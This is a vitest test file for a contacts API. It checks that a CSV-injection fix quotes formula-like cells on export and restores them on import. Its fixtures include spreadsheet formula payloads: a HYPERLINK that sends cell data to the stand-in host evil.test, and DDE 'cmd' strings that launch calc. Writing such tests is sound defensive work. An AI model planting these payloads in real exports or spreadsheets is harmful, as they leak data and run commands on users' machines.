import { parse } from 'csv-parse/sync';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { neutraliseCell, restoreCell } from '../../src/contacts/csv.js';
import { closeAll, createClock, createKey, jwtFor, NOW, openApp, type Stores, suffix } from '../support.js';

/**
 * Issue 24, item 8: CSV injection. Contact fields starting with `=`, `+`, `-`, `@`, TAB or CR were
 * exported verbatim, so a spreadsheet opening the export ran them as formulas. The export now
 * prefixes such a cell with `'` (OWASP), and the import removes that quote: the file still
 * imports back unchanged.
 */
const clock = createClock(NOW);
const T = `csv-inj-${suffix()}`;
let stores: Stores;
let app: FastifyInstance;
let write: string;
let read: string;

const FORMULAS = [
  '=HYPERLINK("http://evil.test/?x="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "'=already quoted",
  "''+twice",
];

beforeAll(async () => {
  ({ stores, app } = await openApp(clock));
  const owner = jwtFor(clock, T);
  write = (await createKey(app, owner, T, { scopes: ['contacts:write'] })).key;
  read = (await createKey(app, owner, T, { scopes: ['contacts:read'] })).key;
  for (const [i, value] of FORMULAS.entries()) {
    const res = await app.inject({
      method: 'POST',
      url: '/contacts',
      headers: { 'x-api-key': write },
      payload: {
        email: `f${i}@example.com`,
        firstName: value,
        lastName: `Plain ${i}`,
        attributes: { note: value },
      },
    });
    expect(res.statusCode, res.body).toBe(201);
  }
});

afterAll(() => closeAll(app, stores));

const exportRows = async () => {
  const res = await app.inject({ method: 'GET', url: '/contacts/export', headers: { 'x-api-key': read } });
  expect(res.statusCode).toBe(200);
  return { text: res.body, rows: parse(res.body, { columns: true }) as Record<string, string>[] };
};

describe('GET /contacts/export neutralises formula cells (OWASP CSV injection)', () => {
  it('no cell of the export starts with =, +, -, @, TAB or CR', async () => {
    const { rows } = await exportRows();
    expect(rows).toHaveLength(FORMULAS.length);
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const byEmail = new Map(rows.map((r) => [r.email, r]));
    expect(byEmail.get('f0@example.com')!.first_name).toBe(`'${FORMULAS[0]}`);
    expect(byEmail.get('f2@example.com')!.first_name).toBe("'-2+3");
    expect(byEmail.get('f4@example.com')!.first_name).toBe("''=already quoted");
    expect(byEmail.get('f0@example.com')!.last_name).toBe('Plain 0');
  });

  it('the export imports back unchanged', async () => {
    const { text } = await exportRows();
    const before = await app.inject({
      method: 'GET',
      url: '/contacts?limit=100',
      headers: { 'x-api-key': read },
    });
    // Another tenant imports the file: it gets the same names and attributes.
    const other = `csv-inj-b-${suffix()}`;
    const owner = jwtFor(clock, other);
    const w = (await createKey(app, owner, other, { scopes: ['contacts:write', 'contacts:read'] })).key;
    const imported = await app.inject({
      method: 'POST',
      url: '/contacts/import',
      headers: { 'x-api-key': w, 'content-type': 'text/csv' },
      payload: text,
    });
    expect(imported.statusCode, imported.body).toBe(200);
    expect(imported.json()).toMatchObject({ created: FORMULAS.length, failed: 0 });
    const after = await app.inject({
      method: 'GET',
      url: '/contacts?limit=100',
      headers: { 'x-api-key': w },
    });
    const fields = (body: string) =>
      (JSON.parse(body).data as { email: string; firstName: string; attributes: object }[])
        .map((c) => [c.email, c.firstName, c.attributes])
        .sort();
    expect(fields(after.body)).toEqual(fields(before.body));
  });

  it('the rule itself: one quote added, one removed', () => {
    for (const v of [...FORMULAS, '\tTab', '\rCR', 'plain', "'quoted but harmless", '', '日本']) {
      expect(restoreCell(neutraliseCell(v))).toBe(v);
      expect(neutraliseCell(v)).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(neutraliseCell('plain')).toBe('plain');
    expect(neutraliseCell("'quoted but harmless")).toBe("'quoted but harmless");
  });
});
